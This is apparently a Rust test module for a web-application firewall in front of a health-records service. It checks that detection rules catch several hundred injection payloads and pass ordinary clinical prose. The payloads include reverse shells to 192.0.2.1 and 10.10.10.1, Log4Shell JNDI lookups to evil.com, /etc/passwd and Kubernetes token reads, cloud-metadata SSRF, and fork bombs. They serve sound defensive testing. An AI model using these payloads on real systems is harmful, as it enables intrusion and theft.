    use super::*;
    use crate::inspect::normalise::{normalise, Plus};

    fn hit(raw: &str) -> Option<&'static str> {
        value(&normalise(raw.as_bytes(), Plus::Space)).map(|h| h.class.name())
    }

    fn rule(raw: &str) -> Option<&'static str> {
        value(&normalise(raw.as_bytes(), Plus::Space)).map(|h| h.rule)
    }

    /// FHIR's `markdown` fields quote names as code spans; a shell runs back-quoted text and
    /// MySQL reads it as a name (R-WAF-1).
    #[test]
    fn markdown_code_spans_pass_and_substitutions_do_not() {
        for attack in [
            "`id`",
            "x`whoami`y",
            "a `cat notes.txt` b",
            "note `ls -la` here",
            "`bla`",
            "user'collate`nocase`--",
            "\\`or`1",
            "pick `password` from `users`",
            "`db`.`users`",
            "`ab`,`cd` and more",
            "```whoami```",
            "a ``id`` b",
            "max(`salary`) here",
            "`xy`=1 or so",
            "see `$SHELL` here",
            "run `./x` now",
            "then `/usr/bin/id` ran",
        ] {
            assert_eq!(hit(attack), Some("rce"), "{attack:?}");
        }
        for markdown in [
            "The display is equivalent to `CodeableConcept.text` (see `Observation.code`).",
            "Use `_count` and `_sort`, not `page`.",
            "Status `final` or `preliminary`: see `http://hl7.org/fhir/ValueSet/x`.",
            "`Observation.value[x]` holds the result; `code-value-concept` searches it",
            "Concepts have both a ```display``` and an array of ```designation```",
            "Coupled with the `texture.modifier`; could be in `.oralDiet.instruction`.",
            "薬は `朝食後` ではなく `code` で",
        ] {
            assert_eq!(rule(markdown), None, "{markdown:?}");
        }
    }

    #[test]
    fn a_template_statement_needs_a_statement_name() {
        // Every engine's statement starts with its name: Jinja, Twig, Django, Liquid.
        for attack in [
            "{% if True %}49{% endif %}",
            "{%- import os %}{{ os.popen('id').read() }}",
            "{%print(7*7)%}",
            "{% for c in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
            "{%+ debug %}",
        ] {
            assert_eq!(rule(attack), Some("ssti-100"), "{attack:?}");
        }
        // A message template's placeholders are no statement (libinjection's benign set).
        for text in [
            "{% $SENDER_FULL_NAME %} BLAH BLAH",
            "Dear {% $NAME %}, your results are ready",
        ] {
            assert_eq!(rule(text), None, "{text:?}");
        }
    }

    /// Shapes from attack sets no earlier rule was written from (fray's payload files,
    /// BRS-KB's XSS payloads), each beside the prose that looks most like it.
    #[test]
    fn held_out_payload_shapes_are_refused_and_their_prose_neighbours_pass() {
        for (attack, id) in [
            ("' or true() or ''='", "xpath-100"),
            ("' and not(false()) and ''='", "xpath-100"),
            (
                "' or substring(//user[position()=1]/password,1,1)='a",
                "xpath-100",
            ),
            ("'] | //*[local-name()='password'] | /a['", "xpath-110"),
            ("admin')] | //user[('1'='1", "xpath-110"),
            (
                "*)(userAccountControl:1.2.840.113556.1.4.803:=65536)",
                "ldapi-100",
            ),
            ("admin)(*", "ldapi-100"),
            ("{{_self}}", "ssti-100"),
            ("{{_self.env}}", "ssti-100"),
            ("{{#with \"e\"}}", "ssti-100"),
            ("{{{'a':'id'}.a|filter('system')}}", "ssti-100"),
            (
                "#{T(org.apache.commons.lang3.SystemUtils).IS_OS_LINUX}",
                "ssti-100",
            ),
            ("x\r\nStrict-Transport-Security:max-age=0", "crlf-100"),
            ("x\r\nX-Powered-By:Hacked", "crlf-100"),
            ("x\r\nCache-Control:no-store", "crlf-100"),
            ("x\r\nExpect:100-continue", "crlf-100"),
            ("x\r\nTrailer:X-Evil\r\n", "crlf-100"),
            ("C:\\Windows\\system.ini", "lfi-110"),
            ("/.dockerenv", "lfi-110"),
            ("/run/secrets/kubernetes.io/serviceaccount/token", "lfi-110"),
            ("/home/user/.bashrc", "lfi-110"),
            ("....//....//etc/hosts", "lfi-100"),
            ("....\\/", "lfi-100"),
            ("/var/www/html/index.php", "lfi-120"),
            ("C:\\xampp\\apache\\conf\\httpd.conf", "lfi-120"),
            ("; pwd", "rce-100"),
            ("|| pwd", "rce-100"),
            (";hostname", "rce-100"),
            (";ip addr", "rce-105"),
            ("; ip -4 addr show", "rce-105"),
            (";ss -tulpn", "rce-105"),
            ("& net user", "rce-105"),
            ("& net user hacker P@ss1 /add", "rce-105"),
            ("& net localgroup administrators", "rce-105"),
            ("& reg query HKLM\\Software", "rce-105"),
            ("; xterm -display evil.com:1", "rce-105"),
            ("; java -jar reverse.jar evil.com 4444", "rce-105"),
            ("; timeout 5 sleep 10", "rce-105"),
            ("; waitfor /t 5 pause", "rce-105"),
            ("; choice /t 5 /d y", "rce-105"),
            ("gdb -p 1", "rce-105"),
            ("pip3 install evil", "rce-105"),
            ("ldd /usr/lib/libc.so", "rce-105"),
            ("; irb", "rce-105"),
            ("irb", "rce-105"),
            ("data:text/javascript;base64,YWxlcnQoMSk=", "xss-112"),
            ("data:application/javascript,alert(1)", "xss-112"),
            ("<button formaction=//attacker/>", "xss-114"),
            (
                "<a ping=\"https://evil.com\" href=\"#\">click</a>",
                "xss-114",
            ),
            ("<div v-html=\"userInput\"></div>", "xss-114"),
            ("<div [innerHTML]='userInput'></div>", "xss-114"),
            ("<div data-bind=\"html: userInput\"></div>", "xss-114"),
            (
                "<webview src=\"https://evil.com\" nodeintegration></webview>",
                "xss-114",
            ),
            ("..%25c1%251c..%25c1%251cetc/passwd", "encoding-100"),
        ] {
            assert_eq!(rule(attack), Some(id), "{attack:?}");
        }
        for prose in [
            "Take with food or true (unsweetened) juice",
            "true or false: patient fasting",
            "Results [see page 2] | follow-up in 2 weeks",
            "Dose (am)(pm) split",
            "Left arm (mild)(*) see footnote",
            "Discussed self-care {{patient}} template",
            "{{name}} was seen today",
            "Plan:\r\nCache-Control of diet\r\nExpect: improvement\r\nTrailer: hitched",
            "Patient works as a sysadmin (Windows)",
            "IP route of administration; IP dosing",
            "net weight 70 kg; net user fees waived",
            "Timeout 5 minutes rest; timeout 10 min",
            "Java developer; desk job",
            "PWD peer group; people with diabetes",
            "Sleep 6 hours; ID card renewed",
            "data: text, not code",
            "IRB approval obtained",
            "LDD noted, right leg 1 cm shorter",
            "PIP2 levels low",
            "pip2 phosphoinositidase c",
            "GDB contact made",
            "C99 standard",
            "Wait.... / then rest",
            "Saved to C:\\Users\\taro\\scan.pdf",
            "<b>ping</b> test negative; <i>innerHTML</i> is a word",
            "BP <120 ping-pong; formaction plan",
        ] {
            assert_eq!(rule(prose), None, "{prose:?}");
        }
    }

    #[test]
    fn a_url_ending_in_a_question_mark_is_an_include() {
        let rule = |t: &str| include_url(t).map(|h| h.rule);
        for url in [
            "http://evil.test/x.txt?",
            "https://a/b??",
            "ftp://a?",
            "file:///x?",
            "http?",
        ] {
            assert_eq!(rule(url), Some("rfi-120"), "{url}");
        }
        for text in [
            "http://evil.test/x.txt",
            "https://a/b c?",
            "httpx://a?",
            "is it http?x",
            "see http://a?",
        ] {
            assert_eq!(rule(text), None, "{text}");
        }
    }

    #[test]
    fn query_rules_find_brackets_smuggled_lines_and_other_sites() {
        let bracket = |n: &str| bracket_name(n).map(|h| h.rule);
        for bad in [
            "foo[1]a[2]",
            "foo[1]a",
            "foo[",
            "foo[a[b]]",
            "[1]",
            "a]b[",
            "a[b]]",
        ] {
            assert_eq!(bracket(bad), Some("protocol-210"), "{bad}");
        }
        for good in [
            "ids[]",
            "filter[status]",
            "a[b][c]",
            "foo[1][2]",
            "name",
            "a]b",
        ] {
            assert_eq!(bracket(good), None, "{good}");
        }

        let line = |v: &str| query_line(v).map(|h| h.rule);
        assert_eq!(line("test\nnext=more"), Some("crlf-130"));
        assert_eq!(line("a\r\nSet-Cookie=x"), Some("crlf-130"));
        for text in [
            "line one\nline two",
            "BP 120/80\nPlan: recheck",
            "a\n=b",
            "x=1\n",
        ] {
            assert_eq!(line(text), None, "{text:?}");
        }

        let other = |v: &str, host: Option<&str>| other_origin(v, host).map(|h| h.rule);
        for (value, host) in [
            ("http://foo.bar", Some("localhost")),
            ("https://evilexample.com/", Some("localhost")),
            ("https://example.com.evil.com/", Some("example.com")),
            ("https://example.com:1234/", Some("example.com")),
            ("ftp://files.example.net", Some("phr.example.jp")),
            ("https://[2001:db8::1]/", Some("phr.example.jp")),
            ("https://example.com/", None),
        ] {
            assert_eq!(other(value, host), Some("rfi-160"), "{value} on {host:?}");
        }
        for (value, host) in [
            ("https://example.com/", Some("example.com")),
            ("https://example.com", Some("EXAMPLE.com")),
            ("https://api.example.com/", Some("example.com")),
            ("http://www.example.com/some/path", Some("example.com")),
            ("http://loinc.org|8867-4", Some("phr.example.jp")),
            ("https://foo.bar?foo=bar", Some("localhost")),
            ("http://hl7.org/fhir/sid/us-npi", Some("phr.example.jp")),
            ("see https://foo.bar", Some("localhost")),
            ("https://", Some("localhost")),
        ] {
            assert_eq!(other(value, host), None, "{value} on {host:?}");
        }
    }

    #[test]
    fn a_host_after_an_encoded_slash_is_a_credentials_url() {
        let rule = |t: &str| credentials_url(t).map(|h| h.rule);
        for text in [
            "http://user@evil.com/",
            "http://example.com/@evil.com/",
            "http://example.com/@evil.com",
            "http://example.com/@evil.com:8080/x",
        ] {
            assert_eq!(rule(text), Some("rfi-150"), "{text}");
        }
        for text in [
            "https://mastodon.social/@user",
            "https://host/@user/123",
            "https://host/a/@evil.com/",
            "mail me at a@b.example",
        ] {
            assert_eq!(rule(text), None, "{text}");
        }
    }

    /// The value rules' scan finds the base64 words where `base64_words` does, and only
    /// there: as written (not in another case, not where a backslash was folded to a
    /// slash), beside other text, and in text that is not ASCII (scanned apart).
    #[test]
    fn base64_words_noted_by_the_value_scan_are_the_words_as_written() {
        let (patterns, _) = base64_patterns();
        // The scan notes where each word is (lower-cased, as `folded` holds it).
        let values = &compiled().values;
        assert!(values.notes_extra());
        let mut notes = Vec::new();
        values.first_noting("x ro0abq y", |k, at| notes.push((k, at)));
        let header = patterns.iter().position(|p| p == "rO0ABQ").unwrap();
        assert_eq!(notes, [(header, 2..8)]);
        let mut fired = 0;
        for pattern in &patterns {
            for text in [
                format!("note {pattern} end"),
                format!("x{pattern}"),
                pattern.clone(),
                format!("{} x", pattern.to_ascii_lowercase()),
                format!("{} x", pattern.to_ascii_uppercase()),
                format!("{} x", pattern.replace('/', "\\")),
                format!("血圧 {pattern}"),
            ] {
                let n = normalise(text.as_bytes(), Plus::Literal);
                let expected = base64_words(n.decoded.as_bytes()).map(|h| h.rule);
                let found = value(&n).map(|h| h.rule);
                let word = matches!(found, Some("java-130" | "nodejs-110"));
                match expected {
                    // Another rule may fire first (`java-110` on `rO0ABQ` in prose).
                    Some(_) => {
                        assert!(found.is_some(), "{text}");
                        assert!(!word || found == expected, "{text}: {found:?}");
                        fired += usize::from(word);
                    }
                    None => assert!(!word, "{text}: {found:?}"),
                }
            }
        }
        assert!(fired >= patterns.len() * 3, "named by the words: {fired}");
    }

    /// The one pass over a short value says "absent" only for a byte asked about and not
    /// there; a long value, or a byte not asked about, may always be there.
    #[test]
    fn present_bytes_are_absent_only_when_asked_and_missing() {
        for &b in Present::ASKED {
            let with = format!("note {} end", char::from(b));
            assert!(Present::of(with.as_bytes()).may_hold(&[b]), "{with}");
            assert!(
                !Present::of(b"note end").may_hold(&[b]),
                "{}",
                char::from(b)
            );
            assert!(Present::of(b"x:y").may_hold(&[b':', b]));
        }
        assert!(Present::of(b"").may_hold(b"x"));
        assert!(!Present::of(b"").may_hold(b"<"));
        let long = "a".repeat(Present::SHORT);
        assert!(Present::of(long.as_bytes()).may_hold(b"<"));
    }

    /// The literal-gated set answers as one `RegexSet` of the same rules would, rule for rule.
    #[test]
    fn the_prefixed_value_set_finds_what_one_set_finds() {
        let plain = RegexSetBuilder::new(VALUE_RULES.iter().map(|r| r.pattern))
            .unicode(false)
            .build()
            .unwrap();
        let prefixed = &compiled().values;
        assert!(
            prefixed.unprefixed_rules.len() * 2 <= VALUE_RULES.len(),
            "most rules are gated: {:?}",
            prefixed.unprefixed_rules
        );
        let benign = [
            "血圧（安静時）は 120/80 mmHg。朝食後に服薬 (ok); 次回 2026-04-10",
            "At least 100 beats per minute; see http://loinc.org|8867-4",
            "the patient's union card; select a time; java lessons",
            "",
        ];
        let texts = ATTACKS
            .iter()
            .map(|(raw, _)| *raw)
            .chain(benign)
            .flat_map(|raw| {
                let folded = normalise(raw.as_bytes(), Plus::Space).folded.into_owned();
                // Each alone, and two joined: the first rule must still be the first.
                [
                    folded.clone(),
                    format!("{folded} {}", benign[1]),
                    format!("x{folded}"),
                ]
            });
        let mut fired = 0;
        for text in texts {
            let expected = first(&plain, VALUE_RULES, &text).map(|h| h.rule);
            fired += usize::from(expected.is_some());
            let found = prefixed.first_noting(&text, |_, _| {}).map(|h| h.rule);
            assert_eq!(found, expected, "{text:?}");
        }
        assert!(fired > 50, "the comparison saw rules fire: {fired}");
    }

    #[test]
    fn every_pattern_compiles() {
        for rule in VALUE_RULES
            .iter()
            .chain(GATED.iter().flat_map(|g| g.rules))
            .chain(NAME_RULES)
            .chain(PATH_RULES)
            .chain(FILE_NAME_RULES)
        {
            let built = regex::bytes::RegexBuilder::new(rule.pattern)
                .unicode(false)
                .build();
            assert!(built.is_ok(), "{}: {built:?}", rule.id);
        }
    }

    /// Found by the `normalise` fuzz target: a multi-byte character just before a `:` made
    /// the SSRF scan slice inside it and panic.
    #[test]
    fn a_multibyte_character_before_a_colon_is_no_panic() {
        assert_eq!(hit("2)E\u{0703}:"), None);
        assert_eq!(hit("血圧:http://10.0.0.1/"), Some("ssrf"));
    }

    /// One attack of each kind, and the class that must find it.
    const ATTACKS: &[(&str, &str)] = &[
        ("1' OR '1'='1", "sqli"),
        ("() { :; }; echo vulnerable", "rce"),
        // What stays refused of the shapes prose shares (2026-11-28, eleventh session): PHP's
        // English-named functions called as code, quoted words joined as SQL compares them,
        // cmd.exe's `if` with a comparison, Java's Velocity and Struts by package, programs
        // named as English words after a separator, an array-held function name called.
        ("system('id')", "php"),
        ("system (\"ls\")", "php"),
        ("include($x)", "php"),
        ("require ('http://x/s.txt')", "php"),
        ("exec (blah)", "php"),
        ("(['system'])[0]('uname');", "php"),
        ("x' OR 'y' LIKE 'y", "sqli"),
        ("a' or 'b' is not null --", "sqli"),
        ("admin' or 'x", "sqli"),
        ("if \"%1\"==\"\" goto x", "rce"),
        ("if (", "rce"),
        ("x; aptitude install nmap", "rce"),
        ("a|clang -o x x.c", "rce"),
        ("org.apache.velocity.app.VelocityEngine", "java"),
        // What a formula carries that no formula needs: a call other than arithmetic, a
        // subquery, a condition, a keyword in the name.
        ("id = 1 * sleep(5)", "sqli"),
        ("a = 1*(select 1)", "sqli"),
        ("x = 1 or 1=1", "sqli"),
        ("x = if(1,2,3)", "sqli"),
        ("HOPE AND 8=(3)", "sqli"),
        // sqlmap's payloads past libinjection's fingerprints (sqli-140).
        ("1' AND 4217=bit_shift(CAST('q'||(SELECT CASE WHEN (4217=4217) THEN 1 ELSE 0 END)||'q' AS INTEGER),1)-- -", "sqli"),
        ("-4217 OR 4217=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))", "sqli"),
        ("1\" OR ERROR(CONCAT('q',(SELECT (CASE WHEN (1=1) THEN '1' ELSE '0' END)),'q')) IS NOT NULL", "sqli"),
        ("1' IN BOOLEAN MODE) AND 4217=INET_ATON('q')#", "sqli"),
        ("1*/ OR ELT(4217=4217,8851)/*", "sqli"),
        ("1$$ HAVING 4217=4217-- -", "sqli"),
        ("1' OR 'kWxq'=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(4217),0),500000000),NULL)-- -", "sqli"),
        ("1' OR NOT 4217=4217#", "sqli"),
        ("struts2.xml", "java"),
        // rce-100 at a line's start: a prose word alone on its line, or before what a
        // shell reads; rce-220 across several empty pieces; rce-105's AppArmor tools;
        // BeanShell's gadget classes.
        ("127.0.0.1\nid", "rce"),
        ("x\nls\n", "rce"),
        ("a\nping -c 1 10.0.0.1", "rce"),
        ("x; sleep 5", "rce"),
        ("a\nsleep 10\nb", "rce"),
        ("x; ping 10.0.0.1 -c 3", "rce"),
        ("x; sleep 5 && curl x", "rce"),
        ("1'\nsleep 5#", "rce"),
        ("x; kill 1234", "rce"),
        ("x; cat notes.txt", "rce"),
        ("w$@ho$@ami", "rce"),
        ("w$@h$@o$@a$@m$@i", "rce"),
        ("who``ami", "rce"),
        ("cu$v\\r\\l http://x", "rce"),
        ("pyth$@on3 -c x", "rce"),
        ("x; aa-exec -p unconfined sh", "rce"),
        ("bsh.XThis", "java"),
        // rce-240: mail commands after CRLF (SMTP, POP3, IMAP).
        ("\r\nMAIL FROM:<a@b.com>", "rce"),
        ("subject\r\nRCPT TO:<postmaster>", "rce"),
        ("\r\nEHLO test.com", "rce"),
        ("\r\nDATA", "rce"),
        ("\r\nQUIT\r\n", "rce"),
        ("\r\nHELP Postmaster", "rce"),
        ("\r\nRETR 123", "rce"),
        ("\r\nTOP 1 2", "rce"),
        (
            "\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891",
            "rce",
        ),
        ("\r\nAUTH corerulest dGhpc2lzIWF0ZXN0cGFzc3dvcmQ=", "rce"),
        ("\r\na001 EXAMINE INBOX", "rce"),
        ("\r\nA1 QUIT", "rce"),
        ("\r\nd store 2 +FLAGS (\\Deleted)", "rce"),
        // rce-235 … rce-239.
        ("!!", "rce"),
        ("!-1!-2", "rce"),
        ("/bin/ab", "rce"),
        ("bin/cscli", "rce"),
        (";set", "rce"),
        ("After ;top something", "rce"),
        (";trap 'rm -rf file.txt' SIGEXIT", "rce"),
        ("a=nc&&$a -nlvp 555", "rce"),
        ("|$u wget test", "rce"),
        (";$a cat test.txt", "rce"),
        ("x=Process.spawn(\"id\")", "rce"),
        ("Open3.capture2(\"id\")", "rce"),
        // rce-220's new splices.
        ("uname$u -a", "rce"),
        ("cat$u+/etc$u/passwd", "rce"),
        ("cu$v\\r\\l google.com", "rce"),
        ("ti''me sh -c whoami", "rce"),
        ("ping`` 127.0.0.1", "rce"),
        ("ping$() 127.0.0.1", "rce"),
        ("c1=c;c2=a;c3=t;$c1$c2$c3 x", "rce"),
        // rce-100, -105, -106, -110, -120, -141, -190, -200, -210 as widened.
        ("ifconfig;. rm -rf /", "rce"),
        ("cscli alerts list", "rce"),
        ("'cscli' alerts list", "rce"),
        ("aa-disable php-fpm", "rce"),
        ("python3.10 cmd", "rce"),
        (";gcc10.1<<<void main(){}", "rce"),
        ("visudo", "rce"),
        ("; regedit /E c:\\ads\\file.txt", "rce"),
        ("$SHELL -c \"echo hi\"", "rce"),
        (";ex dddd +silent\\ \\!whoami +wq", "rce"),
        (";ex -c:\\!pwd", "rce"),
        ("f(){ f|f& };f", "rce"),
        ("if/i a==b foo", "rce"),
        ("set -o history", "rce"),
        ("time who", "rce"),
        ("\"time\" who", "rce"),
        ("ll /var/www/", "rce"),
        ("rc script.sh", "rce"),
        ("cd /;cd etc;fold passwd", "rce"),
        ("cat /[e////]tc/[p//]asswd", "rce"),
        ("~0", "rce"),
        ("{,echo,#test}", "rce"),
        ("{,$'whoami',}", "rce"),
        ("{/?s?/?i?/c?t,}", "rce"),
        ("; ${PATH:0:1}bin${PATH:0:1}id", "rce"),
        ("*{7*7}", "ssti"),
        ("x = 1%(select 1)", "sqli"),
        ("dl('x.so')", "php"),
        ("; sleep 5", "rce"),
        ("; id", "rce"),
        ("..%u2215..%u2215..%u2215etc%u2215passwd", "lfi"),
        ("..\u{2216}..\u{2216}windows\u{2216}win.ini", "lfi"),
        ("\\nid\\n", "rce"),
        ("\\n/bin/ls -al\\n", "rce"),
        (";id\\n", "rce"),
        ("& id", "rce"),
        ("\n id \n", "rce"),
        ("<!--#exec cmd=\"id\"-->", "rce"),
        ("<!--#include virtual=\"/etc/passwd\"-->", "rce"),
        ("*(|(mail=*))", "ldapi"),
        ("hi or a=a", "sqli"),
        (") or (x = x", "sqli"),
        ("; or '1'='1'", "sqli"),
        ("\"hi\"\") or (\"\"a\"\"=\"\"a\"", "sqli"),
        ("' -- &password=", "sqli"),
        ("uni/**/on sel/**/ect 1", "sqli"),
        ("'||UTL_HTTP.REQUEST('http://x.example/')", "sqli"),
        ("; echo $((1+1))", "rce"),
        ("x;id", "rce"),
        ("x | id", "rce"),
        ("`id`", "rce"),
        ("`sleep 5`", "rce"),
        ("; /usr/bin/id", "rce"),
        ("admin\\' or glob (id,id);", "sqli"),
        ("foo=\";\\n.shell nc 10.10.10.1 6666 -e sh", "rce"),
        ("() {", "rce"),
        ("1;.sh whoami", "rce"),
        ("x;\n.databases", "rce"),
        ("1;.\\\"shell whoami", "rce"),
        ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", "rce"),
        ("cat /et*/*wd", "rce"),
        ("/bin/ca?/x", "rce"),
        ("$[1*3]", "rce"),
        ("alias -p jzfrx=id", "rce"),
        ("alias %2Bm a=b", "rce"),
        (";date -f secrets.txt", "rce"),
        (";ssh-copy-id user@server", "rce"),
        ("; ssh admin@192.0.2.1", "rce"),
        ("$[]", "rce"),
        ("aaa%0aGET+/+HTTP/1.1", "protocol"),
        ("GET%20http%3A%2F%2Fwww.foo.bar%20HTTP%2F1.2", "protocol"),
        ("unix:AAAAAAAAA|http://coreruleset.org/", "protocol"),
        ("console.info(1)", "nodejs"),
        ("c\\u006fnsole.info(1)", "nodejs"),
        ("process[\"env\"]", "nodejs"),
        ("%23%7Brequire.main.constructor._load%28foo%29%7D", "nodejs"),
        ("while(!false)", "nodejs"),
        ("while(new%20Date)", "nodejs"),
        ("while((true)))", "nodejs"),
        ("require.main", "nodejs"),
        ("java.Runtime", "java"),
        ("@{[ system 'id' ]}", "rce"),
        ("test<?", "php"),
        ("<?\techo \"test\";?>", "php"),
        ("$_(3)", "php"),
        ("$a //x\n()", "php"),
        ("ldap_get_entries()", "php"),
        ("posix_getegid (", "php"),
        ("\"system\"(ls);", "php"),
        ("('system')('whoami')", "php"),
        ("[system][0](ls);", "php"),
        ("$y = 'sys'.'tem';", "php"),
        ("${'ff'}", "php"),
        ("exec /*comment*/ ()", "php"),
        // CRS 933120, 933150, 933160, 933161, 933180, 933210, 934170, 9331200.
        ("opcache.jit_max_polymorphic_calls=50", "php"),
        ("memory_limit = 512M", "php"),
        ("allow_url_include=1", "php"),
        ("FOOcall_user_func()", "php"),
        ("I don't like gzuncompress/*comment*/()", "php"),
        ("exec //comment\r\n (blah)", "php"),
        ("exec #comment\n (blah)", "php"),
        ("touch/*a\r\nb*/()", "php"),
        ("FILE\r\n()", "php"),
        ("strip_tags()", "php"),
        ("intval(foo)", "php"),
        ("$OOO0000O0 (16)", "php"),
        ("$____[_]{_}[@_](25)", "php"),
        ("define('z', [['sys' .'tem']]);(z)[0][0]('uname');", "php"),
        ("\"\\x73y\\x73tem\"(ls);", "php"),
        ("data:text/plain;base64,SSBsb3ZlIFBIUAo=", "rfi"),
        ("compress.bzip2://file.bz2", "rfi"),
        ("http://example.com%2f:asd@evil.com/", "rfi"),
        ("ssh2.shell://user:pw@example.com:22/xterm", "rfi"),
        (":(){ :|:& };:", "rce"),
        ("alias ls-al='ls -al'", "rce"),
        ("/???/?s", "rce"),
        ("www.google.com;/bin/ca?+/et*/passwd", "rce"),
        // CRS 932160, 932230, 932235, 932236: command lines without a separator before.
        ("cat /path/file.gz", "rce"),
        ("time sh -c whoami", "rce"),
        ("env --version", "rce"),
        ("bash -c \"echo test\"", "rce"),
        ("/usr/bin/perl -e 'print readline' some-file.txt", "rce"),
        ("cd /;cd etc;column passwd", "rce"),
        // CRS 932270, 932280, 932260, 932380.
        ("%7E%2B", "rce"),
        ("~-1", "rce"),
        ("{l,-lh}s", "rce"),
        ("c{a,oun}t", "rce"),
        ("{,ifconfig}", "rce"),
        ("{id,}", "rce"),
        ("x;{cat,passwd}", "rce"),
        ("a{l,-lh}s", "rce"),
        ("x{id,}", "rce"),
        // CRS 932200, 932240, 932290: a word split by what a shell drops.
        ("www.google.com;c$@at+/et$@c/pas$@swd", "rce"),
        ("c$$at notes.txt", "rce"),
        ("una$_me -a", "rce"),
        ("pi``ng 127.0.0.1", "rce"),
        ("pi$()ng 127.0.0.1", "rce"),
        ("cu${}rl evil.test", "rce"),
        ("'i'fconfig", "rce"),
        ("\"w\"get localhost", "rce"),
        ("x; 'wh'oami", "rce"),
        ("perf --version", "rce"),
        ("view=image.jpg&bcdboot < file.txt", "rce"),
        (";'curl' http://evil.com", "rce"),
        ("/path/to/.docker/secrets", "lfi"),
        (">/tmp/curl", "lfi"),
        ("backup.sql.zip", "lfi"),
        ("0x5c0x2e./", "lfi"),
        ("1 UNION SELECT password FROM users--", "sqli"),
        ("%27%20or%201%3D1--", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ("%253Cscript%253Ealert(1)", "xss"),
        ("＜ｓｃｒｉｐｔ＞alert(1)", "xss"),
        ("<img src=x onerror=alert(1)>", "xss"),
        ("javascript:alert(document.cookie)", "xss"),
        ("../../../../etc/passwd", "lfi"),
        ("..%5c..%5cwindows%5cwin.ini", "lfi"),
        ("php://filter/convert.base64-encode/resource=index", "rfi"),
        ("ftp://1.1.1.1/x", "rfi"),
        ("jar:http://evil.co/b.zip!a", "rfi"),
        ("http://66.240.183.75/crash.php", "rfi"),
        ("https://[2001:41d0:701:1100::29c8]/gecko.php", "rfi"),
        ("https://foo.bar?", "rfi"),
        ("$&LBRACE;jndi:ldap://evil.com/webshell}", "jndi"),
        ("%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fx%7D", "jndi"),
        ("document /*foo*/ .     cookie", "xss"),
        ("self[\"alert\"](1)", "xss"),
        ("x\";setTimeout(name, 1)//", "xss"),
        ("%2B!![]", "xss"),
        ("%2bADw-script%2bAD4-", "xss"),
        ("{{constructor.constructor('alert(1)')()}}", "xss"),
        ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss"),
        ("printer)(uid=*)", "ldapi"),
        ("*)!(sn=*", "ldapi"),
        ("val)|(uid=*", "ldapi"),
        ("test) ( & ", "ldapi"),
        ("{\"username__startswith\":\"p\"}", "orm-injection"),
        ("; cat notes.txt", "rce"),
        ("| whoami", "rce"),
        ("$(id)", "rce"),
        ("() { :; }; /bin/bash -c id", "rce"),
        ("${jndi:ldap://evil.example/a}", "jndi"),
        ("${${lower:j}${::-n}di:ldap://evil.example/a}", "jndi"),
        ("${${env:X:-j}ndi${date:':'}ldap://e/a}", "jndi"),
        ("{{7*7}}", "ssti"),
        ("#set($x=7*7)$x", "ssti"),
        ("true, $where: '1 == 1'", "nosql"),
        ("' } ], $comment:'successful MongoDB injection'", "nosql"),
        ("db.injection.insert({success:1});", "nosql"),
        ("';return 'a'=='a' && ''=='", "nosql"),
        ("0;return true", "nosql"),
        (
            "';it=new Date();do{pt=new Date();}while(pt-it<5000);",
            "nosql",
        ),
        ("|| 1==1", "sqli"),
        ("x' || 'a' == 'a", "sqli"),
        ("{{dump(app)}}", "ssti"),
        (
            "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
            "ssti",
        ),
        ("#foreach($i in [1..3])$i#end", "ssti"),
        ("{{ config.items() }}", "ssti"),
        ("<?php system('id'); ?>", "php"),
        ("java.lang.Runtime.getRuntime()", "java"),
        ("cnVudGltZQ", "java"),
        ("x=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u", "java"),
        (
            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
            "java",
        ),
        ("{\"$where\": \"this.a == 1\"}", "nosql"),
        ("__proto__[admin]=1", "prototype-pollution"),
        ("x%0d%0aLocation:%20http://e.example/", "crlf"),
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("http://169.254.169.254.nip.io/latest/", "ssrf"),
        ("http://localhost./", "ssrf"),
        ("//evil.example/shell.txt", "rfi"),
        ("http://evil.example/shell.txt#", "rfi"),
        ("${env:AWS_SECRET_ACCESS_KEY}", "jndi"),
        ("${sys:user.home}", "jndi"),
        (
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "jndi",
        ),
        ("${j${k8s:k5:-ND}i:ldap://x.example/a}", "jndi"),
        (
            "http://metadata.google.internal./computeMetadata/v1/",
            "ssrf",
        ),
        ("http://127.1./", "ssrf"),
        ("http://app.10.0.0.5.nip.io/", "ssrf"),
        ("https://magic-127-0-0-1.sslip.io/admin", "ssrf"),
        ("http://7f000001.nip.io/", "ssrf"),
        ("http://127.0.0.1.attacker.example/", "ssrf"),
        ("http://127.0.0.1:8080/admin", "ssrf"),
        ("http://[::1]/", "ssrf"),
        ("http://2130706433/", "ssrf"),
        ("http://7147006462/", "ssrf"),
        ("strace who", "rce"),
        ("time; ansible-playbook site.yml", "rce"),
        ("pip3 install something", "rce"),
        ("FOOGzInFlAtE()", "php"),
        ("#{process.binding(foo).spawn(foo2)}", "nodejs"),
        ("while(!0);", "nodejs"),
        ("file_ExistS (\n\n)", "php"),
        ("$__['o'](5)", "php"),
        ("(/* comment */system)(ls/* comment */);", "php"),
        (";vim -c:\\!pwd", "rce"),
        ("IF NOT EXIST C:\\x CMD", "rce"),
        ("if /i a==b foo", "rce"),
        ("for /f \"tokens=*\" %G in ('dir /b') do echo %G", "rce"),
        ("http://169。254。169。254/", "ssrf"),
        ("localhost/admin", "ssrf"),
        ("host.docker.internal:2375/containers", "ssrf"),
        ("kubernetes.default.svc.cluster.local/api", "ssrf"),
        // Found outside the shared corpora (2026-11-27, eighth session).
        ("https://kubernetes.default.svc/api", "ssrf"),
        ("http://kubernetes/api/v1/secrets", "ssrf"),
        ("http://redis.prod.svc:6379/", "ssrf"),
        // Found in fray's SSRF payloads (2026-11-28, twelfth session).
        ("http://consul.service.consul:8500/v1/agent/members", "ssrf"),
        ("http://printer.local/", "ssrf"),
        ("https://router.home.arpa/admin", "ssrf"),
        ("127.0.0.1&&dir", "rce"),
        ("{{7*'7'}}", "ssti"),
        ("{{'a'.toUpperCase()}}", "ssti"),
